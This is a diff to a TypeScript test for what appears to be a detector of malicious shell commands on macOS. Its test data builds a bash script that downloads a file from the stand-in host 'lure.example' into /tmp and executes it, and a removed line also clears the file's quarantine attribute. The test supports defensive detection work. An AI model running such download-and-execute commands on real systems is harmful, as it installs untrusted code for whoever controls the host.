@@ -227,9 +227,9 @@ describe('however a command is written', () => {
   });
 
   test('a script of several lines, which a shell got as one word, is found', () => {
-    const script = (last: string) => `bash -c #!/bin/bash\ncurl -so /tmp/update https://lure.example/u\nxattr -c /tmp/update\n${last}`;
+    const script = (last: string) => `bash -c #!/bin/bash\ncurl -so /tmp/update https://lure.example/u\nsleep 1\n${last}`;
     const seen = { os: 'macos' as const, name: 'bash', parents: ['zsh', 'login', 'Terminal'], pipeline: [] };
-    expect(matchCommand({ ...seen, command_line: script('chmod +x /tmp/update') })?.address).toBe('lure.example');
+    expect(matchCommand({ ...seen, command_line: script('/tmp/update') })?.address).toBe('lure.example');
     expect(matchCommand({ ...seen, command_line: 'bash -c #!/bin/bash\ncurl -so /tmp/a.json https://lure.example/u\nls' })).toBeNull();
   });
 
